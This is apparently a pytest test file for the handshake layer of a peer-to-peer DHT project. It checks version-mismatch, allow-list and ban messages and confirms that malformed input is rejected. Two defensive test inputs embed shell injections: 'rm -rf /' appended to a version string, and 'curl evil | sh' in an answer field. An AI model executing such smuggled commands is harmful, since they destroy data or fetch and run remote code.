"""The first words between peers of whatever versions."""

import asyncio
import contextlib
from importlib.metadata import version
from typing import Any

import msgpack
import pytest
from hypothesis import given
from hypothesis import strategies as st

from dugnad.dht import hello
from dugnad.dht.hello import Answer, Hello, TurnedAway, Verdict, fault_of, reply
from dugnad.dht.identity import Identity, PeerId
from dugnad.dht.transport import RequestRefused
from dugnad.dht.wire import PROTOCOL, WireError
from tests.unit.memory_transport import Net, network

ME, ANN, BOB = (Identity.from_seed(bytes([k]) * 32).peer_id for k in range(1, 4))
RUN, OTHER = b"r" * 32, b"o" * 32
HERE = version("dugnad")


def answer(protocol: int = PROTOCOL, software: str = HERE, code: str = "", words: str = "") -> Answer:
    return Answer(protocol, software, "tiny", code, words, "")


@pytest.mark.parametrize(
    ("asked", "verdict", "code"),
    [
        (Hello(PROTOCOL, HERE, RUN), Verdict(), ""),
        (Hello(PROTOCOL, HERE, RUN), Verdict("E403", "poison"), "E403"),
        (Hello(PROTOCOL, HERE, OTHER), Verdict(), "E304"),
        (Hello(PROTOCOL + 1, "9.0", RUN), Verdict(), "E301"),
        (Hello(PROTOCOL + 1, "9.0", OTHER), Verdict(), "E301"),
    ],
)
def test_a_hello_is_answered_by_what_keeps_the_asker_out(asked: Hello, verdict: Verdict, code: str) -> None:
    said = reply(asked, RUN, "tiny", verdict, "/ip4/11.0.0.2/tcp/4001")
    assert (said.protocol, said.software, said.name, said.code) == (PROTOCOL, HERE, "tiny", code)
    assert said.seen == "/ip4/11.0.0.2/tcp/4001"


NEWER, OLDER = PROTOCOL + 2, PROTOCOL - 1


@pytest.mark.parametrize(
    ("said", "text"),
    [
        (answer(), None),
        (answer(code="W999", words="slow"), None),
        (
            answer(NEWER, "3.1"),
            f"E301 this run speaks protocol {NEWER}, you have {PROTOCOL}; update your clone: git pull && make setup",
        ),
        (
            answer(OLDER, "0.0.9"),
            f"E301 this run speaks protocol {OLDER}, you have {PROTOCOL}; it needs dugnad 0.0.9",
        ),
        (
            answer(code="E304", words="x"),
            f'E304 {ANN} takes part in another run, "tiny", and not in the one of this invite. Ask the organizer for a '
            "new invite.",
        ),
        (
            answer(code="E401"),
            f"E401 you are not on the allow-list. Your key: {ME} (send it to the organizer).",
        ),
        (
            answer(code="E401", words="the invite was used 20 times already"),
            f"E401 the invite was used 20 times already. Your key: {ME} (send it to the organizer).",
        ),
        (
            answer(code="E403", words="poison"),
            "E403 the organizer has banned your key (poison). Only the organizer can take that back.",
        ),
        (
            answer(code="E999", words="a reason that only later releases know"),
            "E999 a reason that only later releases know",
        ),
    ],
)
def test_who_is_turned_away_reads_what_happened_and_what_to_do(said: Answer, text: str | None) -> None:
    fault = fault_of(said, ANN, ME)
    assert (fault and str(fault)) == text
    assert fault is None or fault.code == str(fault)[:4]


def test_later_releases_may_append_fields() -> None:
    raw = msgpack.packb([PROTOCOL + 1, "9.9.9", RUN, {"new": 1}])
    assert hello._decode(hello._hellos, raw) == Hello(PROTOCOL + 1, "9.9.9", RUN)
    raw = msgpack.packb([PROTOCOL + 1, "9.9.9", "tiny", "", "", "", [1, 2]])
    assert hello._decode(hello._answers, raw).protocol == PROTOCOL + 1


def test_the_fields_are_what_they_are_for_ever() -> None:
    assert msgpack.unpackb(hello.encode(Hello(1, "0.1.0", RUN))) == [1, "0.1.0", RUN]
    assert msgpack.unpackb(hello.encode(Answer(1, "0.1.0", "tiny", "E401", "why", "/ip4/1.2.3.4/tcp/5"))) == [
        1, "0.1.0", "tiny", "E401", "why", "/ip4/1.2.3.4/tcp/5",
    ]  # fmt: skip


@pytest.mark.parametrize(
    "said",
    [
        [1, "0.1.0", RUN[:31]],
        [1, "0.1.0; rm -rf /", RUN],
        [-1, "0.1.0", RUN],
        [1, "0.1.0"],
        {"protocol": 1},
        [1, "0.1.0", RUN, b"x" * hello.MAX_BYTES],
    ],
)
def test_nonsense_in_a_hello_is_a_wire_error(said: Any) -> None:
    with pytest.raises(WireError):
        hello._decode(hello._hellos, msgpack.packb(said))


@pytest.mark.parametrize(
    "said",
    [
        [1, "0.1.0", "ti\x1bny", "", "", ""],
        [1, "0.1.0", "tiny", "E4O1", "", ""],
        [1, "0.1.0", "tiny", "", "a\nb", ""],
        [1, "'; curl evil | sh", "tiny", "", "", ""],
    ],
)
def test_nothing_in_an_answer_can_steer_a_terminal_or_be_copied_into_a_shell(said: Any) -> None:
    with pytest.raises(WireError):
        hello._decode(hello._answers, msgpack.packb(said))


@given(st.binary(max_size=64))
def test_bytes_of_anyone_raise_nothing_but_a_wire_error(raw: bytes) -> None:
    with contextlib.suppress(WireError):
        hello._decode(hello._hellos, raw)
    with contextlib.suppress(WireError):
        hello._decode(hello._answers, raw)


async def never(sender: PeerId, raw: bytes) -> bytes:
    await asyncio.Event().wait()
    return b""


async def member(net: Net, peer: PeerId, **settings: Any) -> None:
    await hello.serve(net.join(peer), settings.pop("run", RUN), "tiny", **settings)


async def test_one_who_takes_us_is_enough_and_the_silent_are_not_waited_for() -> None:
    async with network() as net, asyncio.timeout(hello.ANSWER_S - 1):
        await net.join(ANN).serve(hello.CHANNEL, never)
        await member(net, BOB)
        said = await hello.greet(net.join(ME), [ANN, BOB], RUN)
        assert said is not None
        assert said.name == "tiny"


async def test_if_all_who_answer_turn_us_away_we_hear_the_most_telling_reason() -> None:
    async with network() as net:
        await member(net, ANN, run=OTHER)
        await member(net, BOB, judge=lambda peer: Verdict("E401"))
        with pytest.raises(TurnedAway, match=r"^E401") as raised:
            await hello.greet(net.join(ME), [ANN, BOB], RUN)
        assert raised.value.code == "E401"


async def test_the_judge_is_asked_of_the_run_itself_only_and_of_who_really_asks() -> None:
    async with network() as net:
        judged: list[PeerId] = []

        def judge(peer: PeerId) -> Verdict:
            judged.append(peer)
            return Verdict()

        await member(net, ANN, judge=judge)
        me = net.join(ME)
        assert await hello.greet(me, [ANN], RUN) is not None
        with pytest.raises(TurnedAway, match=r"^E304"):
            await hello.greet(me, [ANN], OTHER)
        assert judged == [ME]


async def test_who_answers_nothing_or_nonsense_keeps_nobody_out() -> None:
    async def nonsense(sender: PeerId, raw: bytes) -> bytes:
        return b"nonsense"

    async with network() as net:
        await net.join(ANN).serve(hello.CHANNEL, nonsense)
        net.join(BOB)
        assert await hello.greet(net.join(ME), [ANN, BOB], RUN) is None
        assert await hello.greet(net.join(ME), [], RUN) is None


async def test_nonsense_is_refused_by_who_is_greeted() -> None:
    async with network() as net:
        await member(net, ANN)
        with pytest.raises(RequestRefused):
            await net.join(ME).request(ANN, hello.CHANNEL, b"nonsense", timeout_s=5)
